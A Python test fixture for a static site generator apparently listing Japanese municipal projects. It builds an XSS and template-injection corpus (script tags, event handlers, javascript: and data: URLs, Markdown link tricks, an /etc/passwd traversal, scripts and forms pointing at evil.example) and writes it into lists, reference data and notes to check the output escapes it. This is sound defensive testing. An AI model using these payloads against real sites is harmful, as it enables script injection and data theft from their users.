"""An injection corpus, a yearly list that carries it in every column, and editors' notes and a
page that carry it with Markdown's own link tricks (for tests).

Families (OWASP XSS filter evasion and friends): script tags, event handlers,
javascript:/data:/vbscript: URLs (plain, mixed case, entity-encoded, with
whitespace), attribute break-outs, SVG and MathML, closing tags that end a
context (</title>, </script>, </textarea>), CSS and <base>/<meta> tricks,
template syntax of several engines, and the Unicode line separators that end
a JavaScript string.  Each payload that could run sets a marker or opens a
dialog, so a test can see that nothing ran.
"""

from __future__ import annotations

from renkei_site.read.table import LIST_HEADER

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">X</math>',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="jav&#x09;ascript:alert(1)">entity tab</a>',
    '<a href="&#106;avascript:alert(1)">entity j</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="https://example.com/" onclick="alert(1)">link with handler</a>',
    '<a href="https://example.com/ok" target="_blank">blank target</a>',
    "<a href='mailto:someone@example.com'>mail link</a>",
    '<a href="https://example.com/"><script>alert(1)</script></a>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ config.items() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    "<form action=//evil.example><input name=q></form>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<scr<script>ipt>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "javascript:alert(1)",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/?q=<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    '\u2028\u2029</script>";alert(1);//',
    "'); alert(1); //",
]

BUREAU = "<script>alert('bureau')</script>局"
FIELD = "<img src=x onerror=alert('field')>"
TITLE = "令和5年度 全国各地との連携事業一覧<script>alert('title')</script>(令和5年4月1日時点)"
HEADER = "\t".join(LIST_HEADER)


def hostile_rows() -> list[list[str]]:
    """One row per payload, the payload in every free-text column; bureau and field alternate
    between a real one and a hostile one (added to the reference data by ``hostile_reference``)."""
    rows = []
    for number, payload in enumerate(PAYLOADS, start=1):
        hostile = number % 2 == 0
        rows.append(
            [
                str(number),
                BUREAU if hostile else "環境局",
                FIELD if hostile else "環境",
                "新規" if hostile else "継続",
                f"事業{number} {payload}",
                f"長野県、{payload}",
                payload,
                f"説明 {payload}",
                f"備考 {payload}",
            ]
        )
    return rows


def hostile_list() -> bytes:
    lines = ["", TITLE, "", HEADER, *("\t".join(row) for row in hostile_rows())]
    return ("\n".join(lines) + "\n").encode("utf-8")


def hostile_reference(data_dir) -> None:
    """Add the hostile bureau and field to a copy of data/ (reference data is input too)."""
    with (data_dir / "bureaus.yaml").open("a", encoding="utf-8") as handle:
        handle.write(f'- slug: hostile\n  names: [{{name: "{BUREAU}"}}]\n')
    with (data_dir / "fields.yaml").open("a", encoding="utf-8") as handle:
        handle.write(f'- {{name: "{FIELD}", slug: hostile, en: Hostile}}\n')


# Links and images only Markdown can make: each must end as text, or as an http(s)/mailto link
# (rel="noopener noreferrer"), or as a link inside the site; MARKDOWN_LINKS lists those kept.
MARKDOWN_PAYLOADS = [
    "[md js](javascript:alert(1))",
    "[md mixed](JaVaScRiPt:alert(1))",
    "[md entity](&#106;avascript:alert(1))",
    "[md hex](&#x6A;avascript:alert(1))",
    "[md tab](java&#x09;script:alert(1))",
    "[md colon](javascript&colon;alert(1))",
    "[md padded](< javascript:alert(1)>)",
    "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[md vb](vbscript:msgbox(1))",
    "[md proto](//evil.example/x)",
    "[md backslash](\\\\evil.example/x)",
    "[md climb](../../../../../etc/passwd)",
    "[md ref][evil]",
    "![md img js](javascript:alert(1))",
    "![md img proto](//evil.example/pixel.png)",
    "![md img remote](https://evil.example/pixel.png)",
    '[md title](https://example.com/titled "x\\" onmouseover=\\"alert(1)")',
    "<https://example.com/autolinked>",
    "[md ok](https://example.com/md-ok)",
    "[md mail](mailto:someone@example.com)",
    "[md site](/prefectures/nagano/)",
]
MARKDOWN_LINKS = {  # link text -> where it points (a site path from the root, or a URL)
    "md img remote": "https://evil.example/pixel.png",
    "md title": "https://example.com/titled",
    "https://example.com/autolinked": "https://example.com/autolinked",
    "md ok": "https://example.com/md-ok",
    "md mail": "mailto:someone@example.com",
    "md site": "prefectures/nagano/index.html",
}
NOTE_TARGETS = {  # a note of every kind, on a page the FY2022 site has
    "projects/2022/001.md": "2022/projects/001/index.html",
    "prefectures/nagano.md": "prefectures/nagano/index.html",
    "municipalities/141305.md": "municipalities/141305/index.html",
    "bureaus/seisaku-kikaku.md": "bureaus/seisaku-kikaku/index.html",
    "fields/kankyo.md": "fields/kankyo/index.html",
}
PAGE_TITLE = "<script>alert('page')</script>題"


def hostile_markdown(heading: str) -> str:
    """The corpus as Markdown: a heading, one paragraph per payload, then the Markdown links."""
    paragraphs = [f"# {heading}", *(f"注記 {p}" for p in PAYLOADS), *MARKDOWN_PAYLOADS]
    return "\n\n".join([*paragraphs, "[evil]: javascript:alert(1)"]) + "\n"


def hostile_notes(data_dir) -> list[str]:
    """Write the corpus into a note of every kind and the page data/pages/hostile.md; return
    the site paths that show them."""
    for relative in NOTE_TARGETS:
        path = data_dir / "notes" / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(hostile_markdown("<script>alert('heading')</script>見出し"), encoding="utf-8")
    (data_dir / "pages" / "hostile.md").write_text(hostile_markdown(PAGE_TITLE), encoding="utf-8")
    return [*NOTE_TARGETS.values(), "hostile/index.html"]
